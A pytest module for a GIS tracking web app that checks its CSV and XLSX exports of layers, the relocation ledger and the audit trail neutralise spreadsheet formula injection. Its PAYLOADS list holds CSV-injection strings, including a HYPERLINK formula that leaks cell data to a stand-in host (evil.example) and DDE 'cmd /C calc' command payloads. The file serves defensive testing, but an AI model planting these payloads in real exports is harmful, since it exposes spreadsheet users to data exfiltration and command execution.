"""No export can attack the spreadsheet it is opened in: text starting with = + - @ tab or CR is neutralised.

One test per file format and export: layer exports (CSV, XLSX, both download routes), the relocation
ledger (CSV, XLSX) and the audit trail (CSV, XLSX).  CSV cells get a leading apostrophe (OWASP);
XLSX cells stay the exact text but are string cells with Excel's quote prefix, never formulas.
"""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from gis_tracker.db import db
from gis_tracker.services.accounts import audit
from tests.factories import borrowed_enterprise, unique
from tests.support.clients import csrf_token_of, login

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
FIELDS = [f"f{i}" for i in range(len(PAYLOADS))]
SQUARE = {"type": "Polygon", "coordinates": [[[113.10, 27.90], [113.1005, 27.90], [113.1005, 27.9005],
                                              [113.10, 27.9005], [113.10, 27.90]]]}


@pytest.fixture(scope="module")
def hostile_layer(app):
    """A planner's layer titled like a formula, with one feature whose every attribute is a formula."""
    client = login(app.test_client(), "planner")
    token = csrf_token_of(client)
    name = unique("formula").replace("-", "_")
    resp = client.post("/api/layers", headers={"X-CSRFToken": token}, json={
        "name": name, "title": PAYLOADS[0], "geometry_type": "Polygon",
        "fields": [{"name": f, "type": "string", "label": p} for f, p in zip(FIELDS, PAYLOADS)]})
    assert resp.status_code == 201, resp.get_json()
    resp = client.post(f"/ogc/collections/{name}/items", headers={"X-CSRFToken": token}, json={
        "type": "Feature", "geometry": SQUARE, "properties": dict(zip(FIELDS, PAYLOADS))})
    assert resp.status_code == 201, resp.get_json()
    yield client, name
    with app.app_context():
        db.session.execute(text("UPDATE user_layers SET deleted_at = now(), deleted_by = 'tests' WHERE name = :n"),
                           {"n": name})
        db.session.commit()


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _assert_csv_cells_neutralised(rows: list[list[str]], expected: list[str]) -> None:
    cells = [c for row in rows for c in row]
    for payload in expected:
        assert "'" + payload in cells, (payload, cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def _assert_xlsx_cells_are_text(data: bytes, expected: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/") and member.endswith(".xml"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member), member
    book = load_workbook(io.BytesIO(data))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, []).append(cell)
    for payload in expected:
        if payload not in found:  # openpyxl writes a raw CR; without lxml its XML reader gives a line feed back
            payload = payload.replace("\r", "\n")
        assert payload in found, (payload, list(found)[:20])  # the exact text, no apostrophe added
        for cell in found[payload]:
            assert cell.data_type == "s" and cell.quotePrefix, (payload, cell.data_type, cell.quotePrefix)


@pytest.mark.parametrize("url", ["/ogc/collections/{name}/items?f=csv", "/api/exports/{name}?format=csv"])
def test_layer_export_csv_neutralises_formulas(hostile_layer, url):
    client, name = hostile_layer
    resp = client.get(url.format(name=name))
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    _assert_csv_cells_neutralised(_csv_rows(resp.data), PAYLOADS)


@pytest.mark.parametrize("url", ["/ogc/collections/{name}/items?f=xlsx", "/api/exports/{name}?format=xlsx"])
def test_layer_export_xlsx_writes_formulas_as_text(hostile_layer, url):
    client, name = hostile_layer
    resp = client.get(url.format(name=name))
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    _assert_xlsx_cells_are_text(resp.data, PAYLOADS)  # attributes, the layer title and the field labels


@pytest.fixture()
def hostile_destination(app):
    with borrowed_enterprise(app, "assessment", "close", destination=PAYLOADS[0]) as eid:
        with app.app_context():
            name = db.session.scalar(text("SELECT name FROM enterprises WHERE id = :i"), {"i": eid})
        yield name


def test_ledger_export_csv_neutralises_formulas(app, hostile_destination):
    client = login(app.test_client(), "viewer")
    resp = client.get("/api/relocation/ledger/export", query_string={"format": "csv", "q": hostile_destination})
    assert resp.status_code == 200
    rows = _csv_rows(resp.data)
    assert any("'" + PAYLOADS[0] in row for row in rows)
    assert not [c for row in rows for c in row if c.startswith("=")]


def test_ledger_export_xlsx_writes_formulas_as_text(app, hostile_destination):
    client = login(app.test_client(), "viewer")
    resp = client.get("/api/relocation/ledger/export", query_string={"format": "xlsx", "q": hostile_destination})
    assert resp.status_code == 200
    _assert_xlsx_cells_are_text(resp.data, [PAYLOADS[0]])


@pytest.fixture()
def hostile_audit(app):
    kind = unique("formula_probe")
    with app.app_context():
        for payload in PAYLOADS:
            audit.record(db.session, username=payload[:64], action=payload[:40], object_type=kind)
        db.session.commit()
    return kind


def test_audit_export_csv_neutralises_formulas(admin_client, hostile_audit):
    resp = admin_client.get("/admin/audit/export", query_string={"format": "csv", "object_type": hostile_audit})
    assert resp.status_code == 200
    _assert_csv_cells_neutralised(_csv_rows(resp.data)[1:], [p[:40] for p in PAYLOADS])


def test_audit_export_xlsx_writes_formulas_as_text(admin_client, hostile_audit):
    resp = admin_client.get("/admin/audit/export", query_string={"format": "xlsx", "object_type": hostile_audit})
    assert resp.status_code == 200
    _assert_xlsx_cells_are_text(resp.data, [p[:40] for p in PAYLOADS])
